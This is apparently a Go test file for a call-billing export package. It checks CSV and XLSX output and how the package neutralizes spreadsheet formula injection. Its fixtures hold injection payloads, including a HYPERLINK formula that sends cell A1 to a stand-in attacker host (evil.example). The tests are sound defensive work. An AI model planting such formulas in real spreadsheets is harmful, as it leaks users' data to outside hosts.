package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/callbill/callbill"
	"github.com/callbill/callbill/export"
	"github.com/xuri/excelize/v2"
)

// fakeSource serves calls from memory, as sqlstore.Store.StreamUsage does.
type fakeSource struct {
	loc   *time.Location
	calls []callbill.Call
	fail  int // > 0: fail after this many calls
}

var errBroken = errors.New("the store broke")

func (s *fakeSource) StreamUsage(ctx context.Context, uid string, f callbill.UsageFilter, fn func(*time.Location, *callbill.Call) error) error {
	n := 0
	for i := range s.calls {
		c := s.calls[i] // a copy: fn must not keep it
		if c.Account != uid || (f.Cycle != 0 && c.Cycle != f.Cycle) || !f.Match(&c) {
			continue
		}
		if s.fail > 0 && n == s.fail {
			return errBroken
		}
		n++
		if err := fn(s.loc, &c); err != nil {
			return err
		}
	}
	return nil
}

func shanghai(t *testing.T) *time.Location {
	loc, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// randomCalls makes n rated calls of account "1001" in 2026-10 with every
// column varied, text columns sometimes hostile.
func randomCalls(r *rand.Rand, n int) []callbill.Call {
	texts := []string{"ccc-1", "=1+2", "-x", "+1", "@SUM(A1)", "\tx", "\rx", "a,b", `say "hi"`, "line\nbreak", " lead",
		"\u3000ideographic space", `\.`, "", "杭州", "=HYPERLINK(\"http://x\",\"y\")", "'q", "cr\r"}
	items := []callbill.Item{"", callbill.ItemFixedLineInbound, callbill.ItemFixedLineOutbound, callbill.ItemInbound400}
	sources := []callbill.NumberSource{callbill.SourceCCC, callbill.SourceThirdParty, callbill.SourceOwn}
	text := func() string {
		if r.IntN(3) == 0 {
			return texts[r.IntN(len(texts))]
		}
		return strconv.Itoa(r.IntN(1e9))
	}
	oct := callbill.NewCycle(2026, time.October)
	base := time.Date(2026, 10, 1, 0, 0, 0, 0, time.FixedZone("CST", 8*3600)).Unix()
	out := make([]callbill.Call, n)
	for i := range out {
		start := base + r.Int64N(31*86400)
		mins := r.Int64N(200)
		c := callbill.Call{Account: "1001", Cycle: oct, Seq: int64(i + 1), Item: items[r.IntN(len(items))],
			NumberSource: sources[r.IntN(len(sources))], Minutes: mins, Late: r.IntN(5) == 0,
			ChargeMicro: r.Int64N(100_000_000)}
		c.CDR = callbill.CDR{ContactID: text(), InstanceID: text(), Direction: callbill.Inbound, Caller: text(), Callee: text(),
			Start: start, End: start + mins*60 - r.Int64N(60)}
		if r.IntN(2) == 0 {
			c.Direction = callbill.Outbound
		}
		c.Number = text()
		if c.Item != "" {
			c.TelecomMinutes = mins
			c.CoveredMinutes = r.Int64N(mins + 1)
		}
		if r.IntN(2) == 0 {
			c.PlatformMinutes = mins
		}
		out[i] = c
	}
	return out
}

// TestCSVMatchesReference: Write's fast CSV is, byte for byte, encoding/csv
// writing callbill.UsageCSVRow (the reference rendering) after a BOM and
// the header; the extra columns as the API shows them.
func TestCSVMatchesReference(t *testing.T) {
	loc := shanghai(t)
	src := &fakeSource{loc: loc, calls: randomCalls(rand.New(rand.NewPCG(1, 2)), 3000)}
	oct := callbill.NewCycle(2026, time.October)

	var want bytes.Buffer
	want.WriteString("\ufeff")
	w := csv.NewWriter(&want)
	w.Write(append(append([]string(nil), callbill.UsageCSVHeader...), export.ExtraColumns()...))
	for i := range src.calls {
		c := &src.calls[i]
		row := callbill.UsageCSVRow(c, loc, nil)
		row = append(row, callbill.NeutralizeCell(c.ContactID), string(c.Direction), callbill.NeutralizeCell(c.Number),
			string(c.Item), strconv.FormatInt(c.Minutes, 10), strconv.FormatInt(c.CoveredMinutes, 10),
			callbill.FromMicro(c.ChargeMicro).String(), strconv.FormatBool(c.Late), c.Cycle.String())
		w.Write(row)
	}
	w.Flush()

	got, res := exportFile(t, src, "1001", callbill.UsageFilter{Cycle: oct}, export.Options{Extra: export.ExtraColumns()})
	if res.Rows != 3000 {
		t.Errorf("rows = %d", res.Rows)
	}
	if !bytes.Equal(got, want.Bytes()) {
		gl, wl := strings.Split(string(got), "\n"), strings.Split(want.String(), "\n")
		for i := range min(len(gl), len(wl)) {
			if gl[i] != wl[i] {
				t.Fatalf("line %d:\n got %q\nwant %q", i+1, gl[i], wl[i])
			}
		}
		t.Fatalf("lengths differ: %d lines, want %d", len(gl), len(wl))
	}
	// And it reads back as the neutralized values.
	recs, err := csv.NewReader(bytes.NewReader(got[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range src.calls {
		if recs[i+1][5] != callbill.NeutralizeCell(c.InstanceID) {
			t.Fatalf("row %d instance %q, want %q", i+1, recs[i+1][5], callbill.NeutralizeCell(c.InstanceID))
		}
	}
}

// hostileWorld has an instance whose id is a formula and one that starts
// with "-"; the CDRs' contact ids are formulas too.
const hostileWorld = `
accounts:
  - uid: "2001"
    name: 恶意
    instances:
      - id: '=HYPERLINK("http://evil.example/?"&A1,"click")'
        mode: payg
        numbers:
          - {number: "057100000001", kind: fixed, source: ccc}
      - id: "-ccc-1+1"
        mode: payg
        numbers:
          - {number: "057100000002", kind: fixed, source: third_party}
`

const hostileCalls = `contact_id,instance_id,direction,caller,callee,start_time,end_time
=1+2,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",inbound,13800000001,057100000001,2026-10-08T10:00:00+08:00,2026-10-08T10:01:00+08:00
@SUM(A1),-ccc-1+1,outbound,057100000002,13800000002,2026-10-08T11:00:00+08:00,2026-10-08T11:02:00+08:00
+86,-ccc-1+1,inbound,13800000003,057100000002,2026-10-08T12:00:00+08:00,2026-10-08T12:00:30+08:00
-5,-ccc-1+1,inbound,13800000004,057100000002,2026-10-08T13:00:00+08:00,2026-10-08T13:00:30+08:00
`

// TestNeutralization: text cells that a spreadsheet would evaluate start
// with a single quote, in CSV and XLSX alike; numbers stay numbers.
func TestNeutralization(t *testing.T) {
	s := openStore(t, "")
	applyWorld(t, s, []byte(hostileWorld))
	if rep := importCSV(t, s, []byte(hostileCalls)); rep.Imported != 4 {
		t.Fatalf("imported %d, want 4: %+v", rep.Imported, rep)
	}
	f := callbill.UsageFilter{Cycle: oct}
	o := export.Options{Extra: []string{"contact_id", "minutes"}}
	got, _ := exportFile(t, s, "2001", f, o)
	want := "\ufeff" + strings.Join(callbill.UsageCSVHeader, ",") + ",contact_id,minutes\n" +
		`2001,2026-10-08 10:00:00,1,0,0,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",0,0,1791424800,1791424860,13800000001,057100000001,'=1+2,1` + "\n" +
		`2001,2026-10-08 11:00:00,0,0,0,'-ccc-1+1,2,0,1791428400,1791428520,057100000002,13800000002,'@SUM(A1),2` + "\n" +
		`2001,2026-10-08 12:00:00,0,0,0,'-ccc-1+1,1,0,1791432000,1791432030,13800000003,057100000002,'+86,1` + "\n" +
		`2001,2026-10-08 13:00:00,0,0,0,'-ccc-1+1,1,0,1791435600,1791435630,13800000004,057100000002,'-5,1` + "\n"
	if string(got) != want {
		t.Errorf("CSV:\n got %s\nwant %s", got, want)
	}

	o.Format = export.XLSX
	x := openXLSX(t, s, "2001", f, o)
	rows := sheetRows(t, x, export.SheetName)
	for i, w := range []struct{ instance, contact string }{
		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'=1+2"},
		{"'-ccc-1+1", "'@SUM(A1)"},
		{"'-ccc-1+1", "'+86"},
		{"'-ccc-1+1", "'-5"},
	} {
		if rows[i+1][5] != w.instance || rows[i+1][12] != w.contact {
			t.Errorf("XLSX row %d: instance %q contact %q, want %q %q", i+2, rows[i+1][5], rows[i+1][12], w.instance, w.contact)
		}
		for _, col := range []string{"F", "M"} {
			if typ, _ := x.GetCellType(export.SheetName, col+strconv.Itoa(i+2)); typ != excelize.CellTypeInlineString {
				t.Errorf("XLSX %s%d is of type %v, want an inline string", col, i+2, typ)
			}
		}
	}
}

// openXLSX writes an XLSX file and opens it with excelize.
func openXLSX(t *testing.T, src export.Source, account string, f callbill.UsageFilter, o export.Options) *excelize.File {
	t.Helper()
	path := filepath.Join(t.TempDir(), "usage.xlsx")
	if _, err := export.Write(context.Background(), src, account, f, path, o); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}

func sheetRows(t *testing.T, x *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestXLSX: the scenario's XLSX export holds the CSV's values, cell for
// cell, with numbers as number cells, text as inline strings and late as
// a boolean.
func TestXLSX(t *testing.T) {
	s := scenario(t, "")
	for _, g := range goldenFiles {
		t.Run(g.name, func(t *testing.T) {
			csvBytes, _ := exportFile(t, s, g.account, g.filter, export.Options{Extra: g.extra})
			want, err := csv.NewReader(bytes.NewReader(csvBytes[3:])).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			x := openXLSX(t, s, g.account, g.filter, export.Options{Format: export.XLSX, Extra: g.extra})
			if sheets := x.GetSheetList(); !reflect.DeepEqual(sheets, []string{export.SheetName}) {
				t.Fatalf("sheets %v", sheets)
			}
			got := sheetRows(t, x, export.SheetName)
			if len(got) != len(want) {
				t.Fatalf("%d rows, want %d", len(got), len(want))
			}
			for i := range want {
				for j := range want[i] {
					g := ""
					if j < len(got[i]) {
						g = got[i][j]
					}
					w := want[i][j]
					cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
					typ, err := x.GetCellType(export.SheetName, cell)
					if err != nil {
						t.Fatal(err)
					}
					name := want[0][j]
					switch {
					case i == 0 || isText(name):
						if g != w || (w != "" && typ != excelize.CellTypeInlineString) {
							t.Errorf("%s (%s) = %q type %v, want text %q", cell, name, g, typ, w)
						}
					case name == "late":
						if typ != excelize.CellTypeBool || (g == "1") != (w == "true") {
							t.Errorf("%s (late) = %q type %v, want %s", cell, g, typ, w)
						}
					default: // a number: no t attribute (or t="n")
						if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
							t.Errorf("%s (%s) is of type %v, want a number", cell, name, typ)
						}
						if g != w {
							t.Errorf("%s (%s) = %q, want %s", cell, name, g, w)
						}
					}
				}
			}
		})
	}
}

func isText(column string) bool {
	switch column {
	case callbill.UsageCSVHeader[0], callbill.UsageCSVHeader[1], callbill.UsageCSVHeader[5], callbill.UsageCSVHeader[10],
		callbill.UsageCSVHeader[11], "contact_id", "direction", "number", "item", "billed_cycle":
		return true
	}
	return false
}

// TestExtraColumns: extras come after the standard columns in the order
// asked, named as asked (case and spaces aside); unknown or repeated names
// are refused before any file is made.
func TestExtraColumns(t *testing.T) {
	if got := strings.Join(export.ExtraColumns(), ","); got != "contact_id,direction,number,item,minutes,covered_minutes,charge,late,billed_cycle" {
		t.Errorf("ExtraColumns() = %s", got)
	}
	s := scenario(t, "")
	got, _ := exportFile(t, s, uid1, callbill.UsageFilter{Cycle: nov}, export.Options{Extra: []string{"late", " Billed_Cycle ", "", "charge", "contact_id"}})
	lines := strings.Split(strings.TrimSuffix(string(got), "\n"), "\n")
	wantTail := []string{",late,billed_cycle,charge,contact_id", ",true,2026-11,0.4,c19", ",false,2026-11,0,c20"}
	for i, w := range wantTail {
		if !strings.HasSuffix(lines[i], w) {
			t.Errorf("line %d = %q, want it to end %q", i+1, lines[i], w)
		}
	}
	if n := strings.Count(lines[1], ","); n != 15 {
		t.Errorf("%d commas in a row, want 15", n)
	}
	dir := t.TempDir()
	for _, extra := range [][]string{{"nope"}, {"late", "LATE"}, {"contact_id,late"}} {
		path := filepath.Join(dir, "x.csv")
		_, err := export.Write(context.Background(), s, uid1, callbill.UsageFilter{Cycle: nov}, path, export.Options{Extra: extra})
		var e *callbill.Error
		if !errors.As(err, &e) || e.Code != callbill.EINVALID {
			t.Errorf("extra %q: err %v, want EINVALID", extra, err)
		}
		if _, err := os.Stat(path); err == nil {
			t.Errorf("extra %q: a file was written", extra)
		}
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 0 {
		t.Errorf("left %d files behind", len(ents))
	}
}

// TestFilters: a start-time range includes the late call by its start; the
// filters narrow; the rest is refused.
func TestFilters(t *testing.T) {
	s := scenario(t, "")
	loc := shanghai(t)
	rows := func(f callbill.UsageFilter) int64 {
		t.Helper()
		_, res := exportFile(t, s, uid1, f, export.Options{})
		return res.Rows
	}
	octFrom, octTo := oct.Start(loc), oct.End(loc)
	for _, tc := range []struct {
		name string
		f    callbill.UsageFilter
		want int64
	}{
		{"October by start, the late c19 included", callbill.UsageFilter{From: octFrom, To: octTo}, 11},
		{"a day", callbill.UsageFilter{From: time.Date(2026, 10, 8, 0, 0, 0, 0, loc), To: time.Date(2026, 10, 9, 0, 0, 0, 0, loc)}, 4},
		{"instance", callbill.UsageFilter{Cycle: oct, Instance: "ccc-hz-002"}, 4},
		{"item", callbill.UsageFilter{Cycle: oct, Item: callbill.ItemFixedLineOutbound}, 3},
		{"no item", callbill.UsageFilter{Cycle: oct, Item: "none"}, 3},
		{"number", callbill.UsageFilter{Cycle: oct, Number: "057188880001"}, 3},
		{"direction", callbill.UsageFilter{Cycle: oct, Direction: callbill.Outbound}, 5},
		{"paging fields are ignored", callbill.UsageFilter{Cycle: oct, Desc: true, After: 5, Limit: 1}, 10},
	} {
		if got := rows(tc.f); got != tc.want {
			t.Errorf("%s: %d rows, want %d", tc.name, got, tc.want)
		}
	}
	path := filepath.Join(t.TempDir(), "x.csv")
	for _, tc := range []struct {
		name string
		f    callbill.UsageFilter
		o    export.Options
	}{
		{"nothing", callbill.UsageFilter{}, export.Options{}},
		{"from only", callbill.UsageFilter{From: octFrom}, export.Options{}},
		{"both", callbill.UsageFilter{Cycle: oct, From: octFrom, To: octTo}, export.Options{}},
		{"backwards", callbill.UsageFilter{From: octTo, To: octFrom}, export.Options{}},
		{"direction", callbill.UsageFilter{Cycle: oct, Direction: "sideways"}, export.Options{}},
		{"format", callbill.UsageFilter{Cycle: oct}, export.Options{Format: "ods"}},
	} {
		_, err := export.Write(context.Background(), s, uid1, tc.f, path, tc.o)
		var e *callbill.Error
		if !errors.As(err, &e) || e.Code != callbill.EINVALID {
			t.Errorf("%s: err %v, want EINVALID", tc.name, err)
		}
		if err := export.Check(tc.f, tc.o); !errors.As(err, &e) || e.Code != callbill.EINVALID {
			t.Errorf("Check %s: err %v, want EINVALID", tc.name, err)
		}
	}
	_, err := export.Write(context.Background(), s, "999", callbill.UsageFilter{Cycle: oct}, path, export.Options{})
	var e *callbill.Error
	if !errors.As(err, &e) || e.Code != callbill.ENOTFOUND {
		t.Errorf("unknown account: err %v, want ENOTFOUND", err)
	}
}

// TestFailureLeavesNothing: when the store fails midway, Write returns its
// error and leaves neither the file nor any temporary file behind.
func TestFailureLeavesNothing(t *testing.T) {
	src := &fakeSource{loc: shanghai(t), calls: randomCalls(rand.New(rand.NewPCG(3, 4)), 30_000), fail: 25_000}
	for _, format := range []export.Format{export.CSV, export.XLSX} {
		t.Run(string(format), func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, "usage"+format.Ext())
			_, err := export.Write(context.Background(), src, "1001", callbill.UsageFilter{Cycle: oct}, path, export.Options{Format: format})
			if !errors.Is(err, errBroken) {
				t.Errorf("err %v, want the store's", err)
			}
			if ents, _ := os.ReadDir(dir); len(ents) != 0 {
				t.Errorf("left %v behind", ents)
			}
		})
	}
	// A cancelled context stops it too.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	src.fail = 0
	dir := t.TempDir()
	if _, err := export.Write(ctx, src, "1001", callbill.UsageFilter{Cycle: oct}, filepath.Join(dir, "u.csv"), export.Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: err %v", err)
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 0 {
		t.Errorf("cancelled: left %v behind", ents)
	}
}

// TestProgress: every 10,000 rows, then the total.
func TestProgress(t *testing.T) {
	src := &fakeSource{loc: shanghai(t), calls: randomCalls(rand.New(rand.NewPCG(5, 6)), 25_000)}
	for _, format := range []export.Format{export.CSV, export.XLSX} {
		var got []int64
		_, res := exportFile(t, src, "1001", callbill.UsageFilter{Cycle: oct},
			export.Options{Format: format, Progress: func(n int64) { got = append(got, n) }})
		if want := []int64{10_000, 20_000, 25_000}; !reflect.DeepEqual(got, want) || res.Rows != 25_000 {
			t.Errorf("%s: progress %v rows %d, want %v", format, got, res.Rows, want)
		}
	}
}

// TestUsageCSV: the cycle-only wrapper writes what Write writes.
func TestUsageCSV(t *testing.T) {
	s := scenario(t, "")
	want, _ := exportFile(t, s, uid1, callbill.UsageFilter{Cycle: oct}, export.Options{})
	path := filepath.Join(t.TempDir(), "u.csv")
	res, err := export.UsageCSV(context.Background(), s, uid1, oct, path)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(path); !bytes.Equal(got, want) || res.Rows != 10 {
		t.Errorf("UsageCSV wrote %d rows, bytes differ: %v", res.Rows, !bytes.Equal(got, want))
	}
}

// TestReplacesAtomically: writing over an existing file replaces it whole.
func TestReplacesAtomically(t *testing.T) {
	src := &fakeSource{loc: shanghai(t), calls: randomCalls(rand.New(rand.NewPCG(7, 8)), 10)}
	dir := t.TempDir()
	path := filepath.Join(dir, "u.csv")
	os.WriteFile(path, []byte(strings.Repeat("old\n", 10000)), 0o644)
	res, err := export.Write(context.Background(), src, "1001", callbill.UsageFilter{Cycle: oct}, path, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(path)
	if int64(len(b)) != res.Bytes || strings.Contains(string(b), "old") {
		t.Errorf("file not replaced whole: %d bytes, result %d", len(b), res.Bytes)
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 1 {
		t.Errorf("%d files in the folder, want 1", len(ents))
	}
}

func ExampleExtraColumns() {
	fmt.Println(strings.Join(export.ExtraColumns(), " "))
	// Output: contact_id direction number item minutes covered_minutes charge late billed_cycle
}
